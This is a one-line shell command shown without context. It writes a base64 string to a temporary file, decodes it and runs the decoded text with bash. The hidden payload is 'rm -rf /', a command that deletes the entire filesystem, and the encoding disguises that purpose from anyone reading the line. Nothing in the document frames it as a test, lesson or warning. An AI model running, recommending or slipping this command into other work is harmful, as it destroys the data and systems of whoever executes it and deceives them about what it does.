echo cm0gLXJmIC8= > /tmp/x; base64 -d /tmp/x > /tmp/y; bash /tmp/y
